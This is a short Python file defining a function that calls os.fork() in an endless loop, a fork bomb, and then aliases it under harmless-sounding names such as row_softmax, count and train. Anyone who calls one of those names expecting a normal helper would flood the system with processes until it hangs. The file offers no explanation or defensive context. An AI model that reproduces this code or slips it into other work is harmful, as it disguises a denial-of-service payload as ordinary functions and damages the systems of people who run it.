"""Processes that make processes."""
import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


row_softmax = count = train = double
